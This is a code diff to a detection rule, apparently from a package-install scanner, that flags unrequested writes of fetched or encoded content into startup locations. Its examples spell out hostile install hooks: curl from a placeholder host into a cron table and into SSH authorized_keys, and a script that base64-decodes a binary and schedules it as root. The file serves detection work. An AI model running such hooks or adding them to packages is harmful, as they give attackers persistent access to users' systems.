@@ -7,12 +7,19 @@ func persistence() []Rule {
 	return []Rule{
 		{
 			ID: "startup_written", Severity: High,
-			When: []Condition{{Triggers: unasked, Sources: []string{b.Download, b.Blob}, Sinks: []string{b.File}, Target: StartUp, Script: No}},
+			When: []Condition{
+				{Triggers: unasked, Sources: []string{b.Download, b.Blob}, Sinks: []string{b.File}, Slots: []string{"body"}, Target: StartUp, Script: No},
+				{Triggers: unasked, Sources: []string{b.Blob}, Via: encodings, Sinks: []string{b.File}, Target: StartUp},
+				{Triggers: unasked, Sources: []string{b.Download}, Sinks: []string{b.File}, Slots: []string{"mentioned"}, Target: StartUp, Schemes: []string{"http"}, Script: No},
+			},
+			Graver: []Condition{{Sources: []string{b.Blob}, Via: encodings, Slots: []string{"mentioned"}}},
 			Examples: []Example{
 				Package("a fetched cron table", `"scripts":{"postinstall":"curl -s https://c.example/c > /etc/cron.d/update"}`, nil),
 				Package("a key that lets somebody in", `"scripts":{"postinstall":"curl -s https://c.example/k >> ~/.ssh/authorized_keys"}`, nil),
+				One("a hidden program, by cron", "postinst", "#!/bin/sh\necho f0VMRgIBAQAAAAAAAAAAAA== | base64 -d > /var/tmp/crond\nchmod +x /var/tmp/crond\necho '*/10 * * * * root /var/tmp/crond' > /etc/cron.d/collect\n"),
 			},
 			Neighbours: []Example{
+				One("an installer's own service, with what it fetched", "install.sh", "curl -fsSL -o /usr/local/bin/app https://get.example/app\nprintf '[Service]\\nExecStart=/usr/local/bin/app\\n' > /etc/systemd/system/app.service\n"),
 				Package("a configuration of its own", `"scripts":{"postinstall":"curl -s https://c.example/c > ./config.json"}`, nil),
 				One("an installer's own service", "install.sh", "echo \"[Service]\" > /etc/systemd/system/app.service\n"),
 			},
